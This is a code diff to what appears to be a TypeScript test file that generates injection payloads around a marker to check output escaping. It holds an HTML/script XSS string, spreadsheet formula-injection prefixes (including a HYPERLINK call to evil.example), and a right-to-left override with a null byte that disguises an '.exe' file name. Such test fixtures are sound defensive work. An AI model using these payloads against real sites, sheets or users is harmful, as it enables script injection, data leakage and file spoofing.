@@ -12,16 +12,14 @@ const decoder = new TextDecoder();
 const textOf = ({ bytes }: Document): string => decoder.decode(bytes);
 const bidi = /[\u202a-\u202e\u2066-\u2069\u0000]/;
 
+const starts = ['=HYPERLINK("http://evil.example","x")&', '+1+', '-1+', '@SUM(A1)&', '\t=1+', '\r=1+'] as const;
+
 /** In a page it would run, in a sheet it would be worked out, in a line it would read backwards. */
 const attacks: Readonly<Record<string, (marker: string) => string>> = {
   markup: (marker) =>
     `${marker}"'></bdi></td></style></title></desc></svg><script>hit("${marker}")</script><img src=x onerror="hit('${marker}')"><iframe srcdoc="x"></iframe><svg onload="hit('${marker}')">&<!--`,
-  'a formula': (marker) => `=HYPERLINK("http://evil.example/${marker}","x")`,
-  'a sum': (marker) => `+1+${marker}`,
-  'a difference': (marker) => `-1+${marker}`,
-  'a function': (marker) => `@SUM(${marker})`,
-  'a tab': (marker) => `\t=1+${marker}`,
-  'a carriage return': (marker) => `\r=1+${marker}`,
+  // each field begins with another sign that a sheet may take for a formula
+  formulas: (marker) => `${starts[Number(marker.slice(1, -1)) % starts.length]}${marker}`,
   'signs that turn lines round, and none at all': (marker) => `\u202e${marker}\u2066\u0000gnp.exe`,
 };
 
